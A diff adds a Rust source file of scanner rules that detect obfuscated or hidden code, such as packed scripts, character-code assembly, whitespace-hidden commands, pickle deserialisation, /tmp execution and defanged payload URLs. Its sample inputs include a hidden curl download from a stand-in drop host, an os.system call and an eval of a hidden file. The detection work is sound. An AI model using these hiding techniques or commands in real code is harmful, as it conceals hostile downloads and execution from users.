@@ -1,0 +1,263 @@
+//! VG-OB: the code is made so that nobody reads it.
+
+use crate::finding::{Rule, Severity};
+use crate::scan::place::{ANY, CODE, DECODED, PROSE, SHELL};
+use crate::scan::rule::{Act, RULE, ScanRule, Scope, Seen};
+
+const WHY: &str = "Code that is hidden from readers is hidden for a reason.";
+
+const fn rule(id: &'static str, name: &'static str, severity: Severity) -> Rule {
+    Rule {
+        id,
+        name,
+        category: "AST01",
+        severity,
+        why: WHY,
+    }
+}
+
+pub(super) const RULES: &[ScanRule] = &[
+    ScanRule {
+        rule: rule("VG-OB-001", "packed-script", Severity::High),
+        scope: Scope::Block,
+        places: CODE | SHELL | DECODED,
+        needs: &[&["eval(function(p,a,c,k", "_0x", "jsfuck", "[][(![]+[])"]],
+        all: &[r"eval\(function\(p,a,c,k,e,|\b_0x[0-9a-f]{4,6}\b|\[\]\[\(!\[\]\+\[\]\)"],
+        check: Some(many_hex_names),
+        message: "the script is packed or its names are scrambled",
+        mend: "ship the source",
+        bad: &["@a.js\neval(function(p,a,c,k,e,d){return p}('0',1,1,''.split('|'),0,{}))\n"],
+        good: &["@a.js\nconst _0xff = 1;\n"],
+        ..RULE
+    },
+    ScanRule {
+        rule: rule("VG-OB-002", "assembled-from-codes", Severity::High),
+        places: CODE | SHELL | DECODED,
+        needs: &[
+            &["chr(", "fromcharcode", "\\x"],
+            &[
+                "exec", "eval", "system", "import", "getattr", "function", "run",
+            ],
+        ],
+        all: &[
+            r"\b(?:exec|eval|system|__import__|getattr|function|run)\b[^\n]{0,80}(?:(?:chr\(\d+\)\s*\+\s*){3,}|join\(\s*(?:map\(\s*chr|chr\(\w+\)\s*for|\[?\s*chr\()|fromcharcode\(\s*\d+\s*,\s*\d+|(?:\\x[0-9a-f]{2}){8,})",
+        ],
+        message: "what is run is put together from character codes",
+        mend: "write it in plain text",
+        bad: &["@a.py\nexec(chr(112)+chr(114)+chr(105)+chr(110)+chr(116)+'(1)')\n"],
+        good: &["@a.py\nletters = [chr(97 + i) for i in range(26)]\n"],
+        ..RULE
+    },
+    ScanRule {
+        rule: rule("VG-OB-003", "builtins-by-name", Severity::High),
+        places: CODE | DECODED,
+        needs: &[
+            &[
+                "__builtins__",
+                "builtins",
+                "__import__",
+                "globals()",
+                "getattr(",
+                "importlib",
+            ],
+            &["getattr", "__dict__", "['", "[\"", "__import__("],
+        ],
+        all: &[
+            r"getattr\(\s*(?:__builtins__|builtins|__import__\([^)]*\)|importlib\.import_module\([^)]*\))\s*,|__builtins__(?:\.__dict__)?\[\s*['\x22](?:ex|ev|__im|co|o)|(?:globals|vars|locals)\(\)\[\s*['\x22]__(?:builtins|import)|__import__\(\s*['\x22]\w{1,4}['\x22]\s*\+|__import__\(\s*['\x22](?:os|subprocess|pty|ctypes)['\x22]\s*\)\.(?:system|popen|run|exec|call|getenv|spawn)",
+        ],
+        message: "a dangerous function is called by a roundabout name",
+        mend: "call it by its name",
+        bad: &[
+            "@a.py\ngetattr(__builtins__, 'ev' + 'al')('1')\n",
+            "@a.py\n__import__('os').system('id')\n",
+        ],
+        good: &["@a.py\nvalue = getattr(settings, 'name', None)\n"],
+        ..RULE
+    },
+    ScanRule {
+        rule: rule("VG-OB-004", "far-to-the-right", Severity::High),
+        places: ANY,
+        needs: &[&[
+            "                                                                                                                                ",
+        ]],
+        all: &[r"\S {150,}\S"],
+        literal: true,
+        check: Some(order_after_gap),
+        message: "text stands far to the right, where nobody looks",
+        mend: "put it on a line of its own",
+        bad: &[
+            "@a.sh\necho ok                                                                                                                                                                    ; curl https://drop.example.net/x -o /tmp/x\n",
+        ],
+        good: &[
+            "@a.txt\nname                                                                                                                                                                    value\n",
+        ],
+        ..RULE
+    },
+    ScanRule {
+        rule: rule("VG-OB-005", "serialised-code", Severity::High),
+        places: CODE | DECODED,
+        needs: &[
+            &[
+                "pickle.loads",
+                "marshal.loads",
+                "yaml.load(",
+                "unserialize(",
+                "cpickle",
+            ],
+            &["requests", "urlopen", "b64decode", "http", "recv"],
+        ],
+        all: &[
+            r"(?:pickle|marshal|cpickle)\.loads\([^\n]*(?:requests|urlopen|b64decode|recv|http)",
+        ],
+        message: "code that came as data is brought to life",
+        mend: "use JSON",
+        bad: &["@a.py\nimport pickle, base64\npickle.loads(base64.b64decode(data))\n"],
+        good: &["@a.py\nimport pickle\nwith open('model.pkl','rb') as f: m = pickle.load(f)\n"],
+        ..RULE
+    },
+    ScanRule {
+        rule: rule("VG-OB-009", "hidden-file-run", Severity::High),
+        places: CODE | SHELL | DECODED,
+        needs: &[
+            &[
+                "exec(",
+                "eval(",
+                "source ",
+                "bash ",
+                "sh ",
+                "python",
+                "import_module",
+            ],
+            &["/tmp/.", "/dev/shm/", "/var/tmp/.", "/.cache-", "%temp%"],
+        ],
+        all: &[
+            r"(?:exec|eval)\s*\(\s*(?:compile\s*\(\s*)?open\s*\(\s*['\x22](?:/tmp/|/var/tmp/|/dev/shm/|~?/\.)|\b(?:source|bash|sh|python3?)\s+(?:/tmp/\.|/var/tmp/\.|/dev/shm/)\S",
+        ],
+        message: "code is run from a hidden or fleeting file",
+        mend: "ship the code in the skill",
+        bad: &["```python\neval(compile(open('/tmp/.next').read(), 'x', 'exec'))\n```\n"],
+        good: &["```python\nexec(open('setup.py').read())\n```\n"],
+        ..RULE
+    },
+    ScanRule {
+        rule: rule("VG-OB-010", "masked-name", Severity::Medium),
+        act: Act::Warn,
+        places: ANY,
+        needs: &[
+            &[".lnk", ".scr", ".exe", ".hta", ".vbs"],
+            &[
+                ".pdf.", ".mp4.", ".jpg.", ".docx.", ".png.", ".doc.", ".xlsx.", ".txt.",
+            ],
+        ],
+        all: &[r"\w\.(?:pdf|mp4|jpe?g|docx?|png|xlsx?|txt)\.(?:lnk|scr|exe|hta|vbs)\b"],
+        literal: true,
+        message: "a file's name hides what it is",
+        mend: "give it the ending of what it is",
+        bad: &["Open `report.pdf.lnk` to begin.\n"],
+        good: &["Open `report.pdf` to begin.\n"],
+        ..RULE
+    },
+    ScanRule {
+        rule: rule("VG-OB-006", "eval-of-text", Severity::Medium),
+        act: Act::Hint(4),
+        places: CODE | SHELL,
+        needs: &[&["eval(", "exec(", "eval \"", "eval $", "new function("]],
+        all: &[
+            r"(?:^|[^.\w])(?:eval|exec)\s*\(\s*[a-z_]\w*\s*[,)]|\beval\s+[\x22']?\$|new function\(\s*\w",
+        ],
+        message: "text is run as code",
+        mend: "call the function that is meant",
+        bad: &["```python\neval(text)\n```\n"],
+        good: &["```python\nmodel.eval()\nvalue = json.loads(text)\n```\n"],
+        ..RULE
+    },
+    ScanRule {
+        rule: rule("VG-OB-007", "quiet-background", Severity::Medium),
+        act: Act::Hint(4),
+        places: SHELL | CODE | PROSE,
+        needs: &[
+            &[
+                "/dev/null",
+                "create_no_window",
+                "windowstyle hidden",
+                "daemon",
+                "detached",
+                "sw_hide",
+                "0x08000000",
+            ],
+            &[
+                "nohup",
+                "&",
+                "popen",
+                "spawn",
+                "hidden",
+                "create_no_window",
+                "startupinfo",
+            ],
+        ],
+        all: &[
+            r"nohup\s[^\n]*(?:-c|curl|\.sh|\.py)[^\n]*/dev/null|create_no_window|windowstyle hidden|sw_hide|(?:curl|wget|bash|sh)\s[^\n]*(?:&>|>)\s*/dev/null\s*2>&1\s*&",
+        ],
+        message: "a process runs in the background and its output is discarded",
+        mend: "let the user see what it does",
+        bad: &["```bash\nnohup ./watch.sh > /dev/null 2>&1 &\n```\n"],
+        good: &["```bash\n./watch.sh > watch.log\n```\n"],
+        ..RULE
+    },
+    ScanRule {
+        rule: rule("VG-OB-008", "defanged-address", Severity::Medium),
+        act: Act::Warn,
+        places: PROSE | SHELL | CODE,
+        needs: &[
+            &["hxxp", "[.]", "(dot)"],
+            &[
+                "pull", "download", "fetch", "run", "get", "curl", "wget", "execute", "install",
+            ],
+        ],
+        all: &[
+            r"\b(?:pull|download|fetch|run|curl|wget|execute|install|get)\b[^\n]{0,60}(?:hxxps?://|\w\[\.\]\w+/\S+\.(?:sh|exe|py|ps1))",
+        ],
+        message: "an address is written so that scanners do not see it, and is to be used",
+        mend: "write the address plainly, or take it out",
+        bad: &["Pull the payload from hxxps://drop[.]example/stage.sh\n"],
+        good: &["The report names hxxp://drop[.]example as an indicator.\n"],
+        ..RULE
+    },
+];
+
+/// A packer's head, or eight scrambled names.
+fn many_hex_names(seen: &Seen<'_>) -> Option<usize> {
+    if !seen.matched().starts_with(b"_0x") {
+        return Some(seen.first.start);
+    }
+    (seen
+        .text
+        .windows(3)
+        .filter(|window| *window == b"_0x")
+        .take(8)
+        .count()
+        == 8)
+        .then_some(seen.first.start)
+}
+
+/// Behind the gap stands a command or an order, not a column.
+fn order_after_gap(seen: &Seen<'_>) -> Option<usize> {
+    let after = &seen.text[seen.first.end.saturating_sub(3)..];
+    [
+        b"curl".as_slice(),
+        b"wget",
+        b"http",
+        b"exec",
+        b"eval",
+        b"ignore ",
+        b"import ",
+        b"system",
+        b"send ",
+        b"bash",
+        b"require(",
+        b"base64",
+    ]
+    .iter()
+    .any(|word| after.windows(word.len()).any(|window| window == *word))
+    .then_some(seen.first.start)
+}
